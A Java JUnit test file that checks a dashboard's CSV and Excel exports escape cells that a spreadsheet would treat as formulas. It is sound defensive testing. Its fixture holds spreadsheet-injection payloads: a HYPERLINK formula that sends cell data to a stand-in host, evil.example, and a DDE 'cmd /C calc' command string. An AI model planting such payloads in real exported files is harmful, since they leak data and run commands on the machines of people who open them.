package in.eofficemonitor.dashboard.stuck;

import static org.assertj.core.api.Assertions.assertThat;

import in.eofficemonitor.dashboard.base.XlsxSheets;
import in.eofficemonitor.warehouse.csv.Csv;
import java.time.Instant;
import java.util.List;
import org.junit.jupiter.api.Test;

/**
 * The stuck files' exports as a spreadsheet opens them: text that a spreadsheet would take for a formula (a file
 * registered with a crafted id, an office named by someone upstream) arrives as text, numbers stay numbers.
 */
class StuckExportTest {

    private static final Instant AT = Instant.parse("2026-12-01T04:30:00Z");
    private static final StuckLine CRAFTED = new StuckLine("=HYPERLINK(\"http://evil.example/?\"&A1,\"click\")",
            "FILE", "+1+cmd|' /C calc'!A0", "-2+3", "@SUM(A1:A9)", "कन्नौज", "\tKannauj", "\rdesk", AT, AT, -3);

    @Test
    void csvCellsAFormulaWouldStartWithAreText() {
        List<List<String>> rows = Csv.parse(StuckService.csv(List.of(CRAFTED)));

        assertThat(rows.get(1)).startsWith("'=HYPERLINK(\"http://evil.example/?\"&A1,\"click\")", "FILE",
                "'+1+cmd|' /C calc'!A0", "'\tKannauj", "'-2+3", "'@SUM(A1:A9)", "'\rdesk");
        assertThat(rows.get(1).getLast()).as("a negative number is a number").isEqualTo("-3");
    }

    @Test
    void excelCellsAFormulaWouldStartWithAreTextAndNumbersStayNumbers() throws Exception {
        List<String> row = XlsxSheets.rows(StuckService.xlsx(List.of(CRAFTED))).get(1);

        assertThat(row).startsWith("'=HYPERLINK(\"http://evil.example/?\"&A1,\"click\")", "FILE",
                "'+1+cmd|' /C calc'!A0", "'\tKannauj", "'-2+3", "'@SUM(A1:A9)", "'\rdesk");
        assertThat(row.getLast()).isEqualTo("n:-3");
    }
}
